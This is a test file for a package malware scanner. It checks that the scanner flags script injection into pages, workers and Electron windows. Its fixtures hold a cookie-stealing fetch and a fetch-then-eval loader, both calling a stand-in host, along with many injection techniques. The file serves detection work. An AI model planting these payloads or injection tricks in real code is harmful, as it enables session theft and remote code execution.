import { describe, expect, test } from 'vitest';
import { codeInAddress, codeInPage } from '../src/decode/injected.js';
import { scanPackage } from '../src/index.js';

const manifest = JSON.stringify({
  name: 'gridwork',
  version: '1.0.0',
  description: 'Widgets for pages',
  main: 'index.js',
});
const TAKES = `fetch("https://203.0.113.9/c?" + document.cookie)`;
const RUNS = `fetch("https://203.0.113.9/c").then(r => r.text()).then(t => eval(t))`;
const SHOWS = `document.title = "widgets, " + "twelve of them"`;

const text = JSON.stringify;
const address = (code: string): string => text(`data:text/javascript,${encodeURIComponent(code)}`);

/** Ways to have a page, or what drives one, run a text. */
const ways: Readonly<Record<string, (code: string) => string>> = {
  'the text of a script element': code =>
    `const s = document.createElement('script'); s.textContent = ${text(code)}; document.head.appendChild(s);`,
  'its text, by a name that is put together': code =>
    `const s = document['create' + 'Element']('script'); s['te' + 'xt'] = ${text(code)}; document.head.appendChild(s);`,
  'a text node in it': code =>
    `const s = document.createElement('script'); s.appendChild(document.createTextNode(${text(code)})); document.body.append(s);`,
  'its properties, all at once': code =>
    `document.body.append(Object.assign(document.createElement('script'), { innerHTML: ${text(code)} }));`,
  'an address that holds it': code =>
    `const s = document.createElement('script'); s.src = ${address(code)}; document.body.append(s);`,
  'an address in Base64': code =>
    `const s = document.createElement('script'); s.setAttribute('src', 'data:text/javascript;base64,${Buffer.from(code).toString('base64')}'); document.body.append(s);`,
  'the address of a file that is made of it': code =>
    `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([${text(code)}])); document.body.append(s);`,
  'a handler': code => `const i = new Image(); i.setAttribute('onerror', ${text(code)}); i.src = 'x';`,
  'HTML with a handler': code =>
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="' + ${text(code.replaceAll('"', '&quot;'))} + '">');`,
  'HTML that is written': code => `document.write('<script>' + ${text(code)} + '</scr' + 'ipt>');`,
  'HTML that a library appends': code => `$('body').append('<script>' + ${text(code)} + '</script>');`,
  'an address that is code': code => `location.href = 'javascript:' + ${text(code)};`,
  'a module that its address holds': code => `import(URL.createObjectURL(new Blob([${text(code)}])));`,
  'a window that is driven': code =>
    `const { BrowserWindow } = require('electron'); new BrowserWindow({}).webContents.executeJavaScript(${text(code)});`,
};

const workers: Readonly<Record<string, (code: string) => string>> = {
  'a worker of a file that is made of it': code =>
    `const file = new Blob([${text(code)}], { type: 'text/javascript' }); const at = URL.createObjectURL(file); new Worker(at);`,
  'a worker of an address that holds it': code => `new Worker(${address(code)});`,
  'a worker of Node': code => `const { Worker } = require('worker_threads'); new Worker(new URL(${address(code)}));`,
  'a worker that serves a page': code =>
    `navigator.serviceWorker.register(URL.createObjectURL(new Blob([${text(code)}])));`,
};

describe('code that a page is handed is looked at', () => {
  test.each([
    ...Object.entries(ways).map(([way, given]) => [way, given, TAKES] as const),
    ...Object.entries(workers).map(([way, given]) => [way, given, RUNS] as const),
  ])('as %s', async (_way, given, code) => {
    const files = { 'package.json': manifest, 'index.js': given(code) };
    expect((await scanPackage({ files })).verdict).toBe('malicious');
  });

  test.each([...Object.entries(ways), ...Object.entries(workers)])(
    'and is nothing by itself: %s',
    async (_way, given) => {
      const files = { 'package.json': manifest, 'index.js': given(SHOWS) };
      expect((await scanPackage({ files })).findings).toEqual([]);
    },
  );

  test('a text that is only shown is no code', async () => {
    const shown = `const p = document.createElement('pre'); p.textContent = ${text(TAKES)}; document.body.append(p);`;
    const files = { 'package.json': manifest, 'index.js': shown };
    expect((await scanPackage({ files })).verdict).toBe('clean');
  });
});

test('an address that leads somewhere holds no code', () => {
  expect(codeInAddress('https://a.invalid/b.js')).toBeUndefined();
  expect(codeInAddress('data:image/png;base64,AAAA')).toBeUndefined();
  expect(codeInAddress('data:text/javascript,a%28%29')).toBe('a()');
  expect(codeInAddress(' JavaScript:a(100%)')).toBe('a(100%)');
});

test('HTML that never ends is read to its end, and handlers without their entities', () => {
  expect(codeInPage('<b onclick="a(&#34;x&quot;)">b</b><script>c(').map(one => one.text)).toEqual(['c(', 'a("x")']);
  expect(codeInPage('<script type="application/json">{}</script><script type="module">d()</script>')).toHaveLength(1);
});
